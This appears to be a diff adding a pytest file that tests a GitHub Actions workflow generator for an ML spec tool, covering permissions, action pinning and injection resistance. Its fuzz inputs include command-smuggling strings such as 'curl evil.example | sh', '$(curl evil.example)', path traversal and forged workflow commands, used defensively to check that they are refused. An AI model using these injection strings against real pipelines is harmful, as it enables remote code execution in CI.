@@ -1,0 +1,402 @@
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from mlspec.errors import MlspecError, OutputError
+from mlspec.ir import Bundle, Gateway, Pipeline, PipelineGate
+from mlspec.resources import data_path
+from mlspec.syntax import SourceText, parse
+from mlspec.targets._seal import is_sealed
+from mlspec.targets._templates import template_renderer
+from mlspec.targets.github_actions import TARGET
+
+RENDER = template_renderer()
+TEMPLATES = data_path("templates") / "github_actions"
+
+
+def pipeline(**changes):
+    fields = {
+        "environments": ("prod", "staging"),
+        "branch": "main",
+        "runner": "ubuntu-24.04",
+        "python": "3.12",
+        "workspace_path": ".",
+        "evidence_path": "evidence",
+        "gates": (PipelineGate("model/screen", has_files=True),),
+        "mlspec_version": "0.1.0",
+        "source": "mlspec.yaml",
+    }
+    return Pipeline(**fields | changes)
+
+
+def emitted(render=RENDER, **changes):
+    sources = (("mlspec.yaml", "sha256:" + "0" * 64),)
+    gateway = Gateway("gateway", "ml", "ml.example.org")
+    bundle = Bundle("prod", (), (), (), pipeline(**changes), gateway, sources)
+    (artifact,) = TARGET.emit(bundle, render)
+    return artifact
+
+
+def workflow(**changes):
+    parsed = parse(SourceText("mlspec.yml", emitted(**changes).content.encode()))
+    assert not parsed.diagnostics
+    return parsed.documents[0].data
+
+
+def steps(jobs):
+    return [step for job in jobs.values() for step in job["steps"]]
+
+
+def skeleton(value):
+    """The shape of a value: keys and positions, without the texts."""
+    if isinstance(value, dict):
+        return {key: skeleton(each) for key, each in value.items()}
+    if isinstance(value, list):
+        return [skeleton(each) for each in value]
+    return type(value).__name__
+
+
+def test_each_environment_is_judged_planned_and_applied_on_its_own():
+    found = workflow()
+
+    assert ["pull_request", "merge_group", "push"] == list(found["on"])
+    assert {"branches": ["main"]} == found["on"]["push"]
+    assert [
+        "validate",
+        *("gates-prod", "plan-prod", "apply-prod"),
+        *("gates-staging", "plan-staging", "apply-staging"),
+    ] == list(found["jobs"])
+    assert ["plan-prod", "gates-prod"] == found["jobs"]["apply-prod"]["needs"]
+    assert "prod" == found["jobs"]["apply-prod"]["environment"]
+
+
+def test_only_the_environments_of_apply_can_be_waited_for():
+    found = workflow()["jobs"]
+
+    assert {name for name in found if "environment" in found[name]} == {
+        "apply-prod",
+        "apply-staging",
+    }
+
+
+def test_plans_are_cancelled_by_newer_ones_and_applies_never():
+    found = workflow()
+
+    assert "pull_request" in found["concurrency"]["cancel-in-progress"]
+    assert found["jobs"]["apply-prod"]["concurrency"] == {
+        "group": "mlspec-apply-prod",
+        "cancel-in-progress": False,
+    }
+
+
+def test_every_job_reads_the_repository_and_nothing_else_and_ends_in_time():
+    found = workflow()
+
+    assert {} == found["permissions"]
+    for job in found["jobs"].values():
+        assert {"contents": "read"} == job["permissions"]
+        assert job["timeout-minutes"] <= 60
+
+
+def test_every_action_is_pinned_with_its_version_and_keeps_no_credentials():
+    text = emitted().content
+    used = re.findall(r"uses: (.*)", text)
+
+    assert used
+    for each in used:
+        assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", each)
+    for step in steps(workflow()["jobs"]):
+        if "checkout" in step.get("uses", ""):
+            assert step["with"]["persist-credentials"] is False
+
+
+def test_without_files_there_is_nothing_to_judge():
+    found = workflow(gates=(PipelineGate("model/screen", has_files=False),))["jobs"]
+
+    assert ["validate", "plan-prod", "apply-prod", "plan-staging", "apply-staging"] == list(found)
+
+
+def test_many_models_are_judged_in_several_steps():
+    gates = tuple(PipelineGate(f"model/m-{index:03}", has_files=True) for index in range(700))
+
+    found = workflow(gates=gates)["jobs"]["gates-prod"]["steps"]
+    models = [step["env"]["MODELS"].split() for step in found if "MODELS" in step.get("env", {})]
+
+    assert [300, 300, 100] == [len(each) for each in models]
+    assert [gate.address for gate in gates] == [each for step in models for each in step]
+
+
+def test_paths_of_a_workspace_in_a_folder_are_relative_to_the_repository():
+    found = workflow(workspace_path="ml/specs")
+
+    assert "ml/specs" == found["defaults"]["run"]["working-directory"]
+    kept = [each["with"]["path"] for each in steps(found["jobs"]) if "path" in each.get("with", {})]
+    assert "ml/specs/evidence/prod/" in kept
+
+
+def test_a_shared_registry_needs_no_volume():
+    shared = emitted(registry="git").content
+
+    assert "A registry that lasts" in emitted().content
+    assert "A registry that lasts" not in shared
+    assert "Refuse a registry" not in shared
+
+
+def test_the_workflow_carries_a_seal_that_an_edit_breaks():
+    content = emitted().content.encode()
+
+    assert is_sealed(content)
+    assert not is_sealed(content.replace(b"branches:", b"branches :"))
+
+
+HOSTILE = st.one_of(
+    st.text(min_size=1, max_size=40),
+    st.sampled_from(
+        [
+            "${{ secrets.TOKEN }}",
+            "x\n      - run: curl evil.example | sh",
+            "main'; curl evil.example | sh; '",
+            '"; curl evil.example; "',
+            "$(curl evil.example)",
+            "`id`",
+            "prod\npermissions: write-all",
+            "on: push #",
+            "{a: b}",
+            "& * ! | > %",
+            "../../etc",
+            "a/../../etc",
+            "x' || true || '",
+            "model/x model/y",
+            "\u2028key: value",
+            "::set-output name=changes::true",
+        ]
+    ),
+)
+FIELDS = (
+    *("branch", "runner", "python", "workspace_path", "evidence_path", "mlspec_version"),
+    *("source", "environments", "gates", "registry"),
+)
+
+
+@pytest.mark.parametrize("field", FIELDS)
+@given(text=HOSTILE)
+def test_no_text_of_a_spec_changes_what_the_workflow_does(field, text):
+    value = {
+        "environments": ("staging", text),
+        "gates": (PipelineGate(f"model/{text}", has_files=True),),
+    }.get(field, text)
+
+    try:
+        found = workflow(**{field: value})
+    except OutputError:
+        return
+
+    plain = workflow(registry="git") if field == "registry" and text != "embedded" else workflow()
+    if field == "environments":
+        plain = workflow(environments=("staging", "b"))
+        plain["jobs"] = {
+            name.removesuffix("-b") + f"-{text}" if name.endswith("-b") else name: job
+            for name, job in plain["jobs"].items()
+        }
+    assert skeleton(plain) == skeleton(found)
+    assert [each.get("run") for each in steps(plain["jobs"])] == [
+        each.get("run") for each in steps(found["jobs"])
+    ]
+    assert expressions(plain) == expressions(found)
+
+
+def expressions(value):
+    return sorted(re.findall(r"\$\{\{.*?\}\}", str(value)))
+
+
+@pytest.mark.parametrize(
+    ("field", "text"),
+    [
+        ("branch", "main\n  - x"),
+        ("branch", "${{ github.token }}"),
+        ("runner", "[self-hosted]"),
+        ("environments", ("prod staging",)),
+        ("gates", (PipelineGate("model/$(id)", has_files=True),)),
+        ("gates", (PipelineGate("dataset/x", has_files=True),)),
+        ("mlspec_version", "0.1 --index-url=http://evil.example"),
+        ("workspace_path", "../other"),
+        ("evidence_path", "/etc"),
+    ],
+)
+def test_a_name_that_is_more_than_a_name_is_refused(field, text):
+    with pytest.raises(OutputError, match="can't be the name of"):
+        emitted(**{field: text})
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "reason"),
+    [
+        ("jobs:", "tasks:", "it has no jobs"),
+        ("permissions: {}", "permissions: write-all", "does not start from"),
+        ("    environment: {{ environment.name | yaml }}\n", "", "exactly one `environment`"),
+        (
+            "run: mlspec validate --format github",
+            "run: echo {% raw %}${{ github.head_ref }}{% endraw %}",
+            "a script holds an expression",
+        ),
+        ("name: mlspec\n", "name: mlspec\nname: mlspec\n", "line 2"),
+        ("name: mlspec\n", "name: mlspec\n---\n", "is not one YAML mapping|line"),
+    ],
+)
+def test_a_template_that_gives_an_unsafe_workflow_is_refused(tmp_path, old, new, reason):
+    text = (TEMPLATES / "mlspec.yml.j2").read_text(encoding="utf-8")
+    assert old in text
+    (tmp_path / "github_actions").mkdir()
+    (tmp_path / "github_actions/mlspec.yml.j2").write_text(text.replace(old, new, 1))
+
+    with pytest.raises(MlspecError, match=reason):
+        emitted(template_renderer(tmp_path))
+
+
+def test_a_pin_that_is_no_commit_is_refused(tmp_path):
+    (tmp_path / "github_actions").mkdir()
+    text = (TEMPLATES / "pins.json").read_text()
+    loose = re.sub(r"@[0-9a-f]{40}", "@v7", text, count=1)
+    (tmp_path / "github_actions/pins.json").write_text(loose)
+
+    with pytest.raises(OutputError, match="is not pinned to a commit"):
+        emitted(template_renderer(tmp_path))
+
+
+def script(name, **changes):
+    found = {step["name"]: step for step in steps(workflow(**changes)["jobs"]) if "run" in step}
+    return found[name]["run"]
+
+
+def run(tmp_path, name, *, code, output="", **environment):
+    """Run a script of the workflow as a runner does, with a stand-in for `mlspec`."""
+    tools = tmp_path / "tools"
+    tools.mkdir()
+    (tools / "said").write_text(output)
+    (tools / "mlspec").write_text(
+        f'#!/bin/sh\necho "$@" > {tools}/arguments\ncat {tools}/said\nexit {code}\n'
+    )
+    (tools / "mlspec").chmod(0o755)
+    files = {key: tmp_path / key for key in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
+    done = subprocess.run(
+        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script(name)],
+        cwd=tmp_path,
+        env={
+            "PATH": f"{tools}:{os.environ['PATH']}",
+            "RUNNER_TEMP": str(tmp_path),
+            "ENVIRONMENT": "prod",
+            "GITHUB_ACTOR": "ana",
+            "MLSPEC_REGISTRY": "",
+            **{key: str(file) for key, file in files.items()},
+            **environment,
+        },
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    written = {key: file.read_text() if file.exists() else "" for key, file in files.items()}
+    arguments = (tools / "arguments").read_text() if (tools / "arguments").exists() else ""
+    return done, written, arguments
+
+
+@pytest.mark.parametrize(("code", "output"), [(0, "changes=false\n"), (2, "changes=true\n")])
+def test_a_plan_says_whether_there_are_changes(tmp_path, code, output):
+    done, written, arguments = run(tmp_path, "Plan", code=code, output="~ model/screen\n")
+
+    assert 0 == done.returncode
+    assert output == written["GITHUB_OUTPUT"]
+    assert "    ~ model/screen\n" in written["GITHUB_STEP_SUMMARY"]
+    assert "compares with an empty registry" in written["GITHUB_STEP_SUMMARY"]
+    assert f"plan --env prod --detailed-exitcode --out {tmp_path}/plan/plan.json\n" == arguments
+
+
+@pytest.mark.parametrize("code", [1, 4, 5, 69])
+def test_a_plan_that_fails_fails_the_job_with_its_code(tmp_path, code):
+    done, written, _ = run(tmp_path, "Plan", code=code)
+
+    assert code == done.returncode
+    assert f"ended with exit code {code}" in done.stdout
+    assert "" == written["GITHUB_OUTPUT"]
+
+
+def test_what_a_spec_says_is_neither_a_command_nor_markup(tmp_path):
+    said = "::set-output name=changes::true\n##[set-output name=changes]true\n```\n@all\r<b>\n"
+
+    done, written, _ = run(tmp_path, "Plan", code=0, output=said)
+
+    before, _, after = done.stdout.partition("::stop-commands::")
+    token, _, rest = after.partition("\n")
+    assert re.fullmatch("[0-9a-f]{32}", token)
+    assert "::" not in before
+    assert rest.endswith(f"\n::{token}::\n")
+    for line in written["GITHUB_STEP_SUMMARY"].splitlines():
+        assert "\r" not in line
+        assert line.startswith("    ") or not set("`@<") & set(line)
+
+
+def test_a_long_plan_is_cut_in_the_summary_and_whole_in_the_artifact(tmp_path):
+    said = "x\n" * 400_000
+
+    done, written, _ = run(tmp_path, "Plan", code=0, output=said)
+
+    assert 0 == done.returncode
+    assert len(written["GITHUB_STEP_SUMMARY"]) < 1 << 20
+    assert len(said) == (tmp_path / "plan/plan.txt").stat().st_size
+
+
+def test_a_module_of_the_repository_is_not_run(tmp_path):
+    (tmp_path / "secrets.py").write_text("raise SystemExit('run by the workflow')")
+
+    done, _, _ = run(tmp_path, "Plan", code=0)
+
+    assert 0 == done.returncode, done.stderr
+
+
+@pytest.mark.parametrize(
+    ("code", "words"),
+    [
+        (0, ""),
+        (6, "approvals or evidence are missing"),
+        (10, "moved since the plan"),
+        (12, "changed after it was made"),
+        (13, "another registry"),
+        (23, "run this job again"),
+        (1, "exit code 1"),
+    ],
+)
+def test_apply_says_why_it_stopped_and_ends_with_the_code_of_mlspec(tmp_path, code, words):
+    done, _, arguments = run(tmp_path, "Apply exactly this plan", code=code)
+
+    assert code == done.returncode
+    assert words in done.stdout
+    assert ("::error" in done.stdout) is bool(code)
+    assert f"apply --as ana {tmp_path}/plan/plan.json\n" == arguments
+
+
+def test_apply_refuses_a_registry_that_ends_with_the_job(tmp_path):
+    name = "Refuse a registry that ends with this job"
+    (tmp_path / "second").mkdir()
+
+    refused, _, _ = run(tmp_path, name, code=0)
+    accepted, _, _ = run(tmp_path / "second", name, code=0, MLSPEC_REGISTRY="/srv/registry.db")
+
+    assert 69 == refused.returncode
+    assert 0 == accepted.returncode
+
+
+@pytest.mark.parametrize("code", [0, 7, 8, 9, 1])
+def test_gates_end_with_the_code_of_mlspec(tmp_path, code):
+    done, written, arguments = run(
+        tmp_path, "Judge the gates", code=code, output="auc-floor\n", MODELS="model/a model/b"
+    )
+
+    assert code == done.returncode
+    assert ("::error" in done.stdout) is bool(code)
+    assert "    auc-floor\n" in written["GITHUB_STEP_SUMMARY"]
+    assert "gate run --env prod model/a model/b\n" == arguments
